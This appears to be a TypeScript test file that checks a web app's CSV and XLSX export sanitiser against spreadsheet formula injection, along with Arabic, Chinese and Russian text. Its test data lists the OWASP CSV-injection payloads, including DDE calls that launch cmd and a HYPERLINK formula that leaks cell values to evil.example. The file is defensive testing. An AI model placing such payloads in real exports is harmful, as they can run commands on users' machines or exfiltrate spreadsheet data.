import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { neutraliseCell } from "@/lib/exports/cells";
import { toCsv } from "@/lib/exports/csv";
import { toXlsx } from "@/lib/exports/xlsx";

const dangerous = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"];
const harmless = [
  "مرحبا بالعالم — منتدى القمة العالمية لمجتمع المعلومات",
  "Genève, «Suisse»",
  "信息社会世界峰会",
  "Всемирная встреча",
  'a,b;"quoted"\nnew line',
  "1 = 1",
  "e-mail",
];

/** What a reader gets back once the neutralising apostrophe is taken off. */
const unguard = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

describe("formula injection", () => {
  test.each(dangerous)("a cell starting with %j comes out as text, prefixed with an apostrophe", (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  test.each(harmless)("%j is left alone", (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  test("numbers, booleans and empty cells keep their type", () => {
    expect([neutraliseCell(-3), neutraliseCell(true), neutraliseCell(null), neutraliseCell(undefined)]).toEqual([-3, true, null, null]);
  });
});

describe("CSV", () => {
  test("starts with a UTF-8 byte-order mark and parses back to the same text, Arabic included", () => {
    const rows = [...dangerous, ...harmless].map((v, i) => [i, v]);

    const csv = toCsv(["#", "نص"], rows);

    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const bytes = Buffer.from(csv, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString("utf8").slice(1), { newline: "\r\n" }).data;
    expect(parsed[0]).toEqual(["#", "نص"]);
    const cells = parsed.slice(1).map((r) => r[1]!);
    expect(cells.map(unguard)).toEqual([...dangerous, ...harmless]);
    for (const cell of cells.slice(0, dangerous.length)) expect(cell.startsWith("'")).toBe(true);
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });
});

// The payloads of OWASP's "CSV Injection" page and ASVS 1.2.10, and formulas hidden after a
// separator a spreadsheet might split on (comma, semicolon, tab)
const owasp = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "\n-3+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "\t=1+2",
  "\r=1+2",
  "\0=1+2",
  "  =1+2",
  '"=1+2"',
];
const afterSeparator = ["x;=1+2", "x,=1+2", "x\t=1+2", "x; =1+2;", ";=1+2;", ",=1+2", "\t@SUM(1,2)", 'a;b,=HYPERLINK("http://evil.example");c'];
const formulaStart = /^\s*[=+\-@]/;

describe("CSV injection (OWASP payloads)", () => {
  test.each(owasp)("%j is neutralised with a leading apostrophe", (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  test("OWASP's own examples come out exactly as its escaped output", () => {
    const csv = toCsv(["h"], [['=1+2";=1+2'], ["=1+2'\" ;,=1+2"]]);

    expect(csv).toBe('\uFEFF"h"\r\n"\'=1+2"";=1+2"\r\n"\'=1+2\'"" ;,=1+2"');
  });

  test("a cell holding a separator is quoted: x;=1+2 stays one text cell", () => {
    expect(toCsv(["a", "b"], [["x;=1+2", "x\t=1+2"]])).toBe('\uFEFF"a","b"\r\n"x;=1+2","x\t=1+2"');
  });

  test.each([",", ";", "\t"])("read with %j as the separator, no cell of the file starts a formula", (delimiter) => {
    const rows = [...owasp, ...afterSeparator, ...dangerous, ...harmless].map((v, i) => [i, v, -i, null, v]);

    const csv = toCsv(["#", "text", "n", "empty", "again"], rows);

    const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter, newline: "\r\n" }).data;
    expect(parsed).toHaveLength(rows.length + 1);
    // a negative number is a number, not a formula
    for (const cell of parsed.flat().filter((c) => !/^-\d+$/.test(c))) expect(cell, JSON.stringify(cell)).not.toMatch(formulaStart);
  });

  test("read with the comma it was written with, every text comes back as written (after the apostrophe)", () => {
    const values = [...owasp, ...afterSeparator];

    const parsed = Papa.parse<string[]>(
      toCsv(
        ["text"],
        values.map((v) => [v]),
      ).slice(1),
      { newline: "\r\n" },
    ).data;

    expect(parsed.slice(1).map((r) => unguard(r[0]!))).toEqual(values);
  });
});

describe("XLSX", () => {
  test("reads back with every dangerous cell inert and every text intact", async () => {
    const values = [...dangerous, ...harmless];

    const buffer = await toXlsx(
      "submissions",
      ["reference", "title"],
      values.map((v, i) => [`R-${i}`, v]),
      { rtl: true },
    );

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("submissions")!;
    expect(sheet.getRow(1).values).toEqual([undefined, "reference", "title"]);
    const cells = values.map((_, i) => sheet.getRow(i + 2).getCell(2));
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    // XML cannot carry a carriage return: it comes back as the line feed it was written as
    expect(cells.map((c) => unguard(String(c.value)))).toEqual(values.map((v) => v.replace(/\r\n?/g, "\n")));
    expect(cells.slice(0, dangerous.length).every((c) => String(c.value).startsWith("'"))).toBe(true);
  });
});
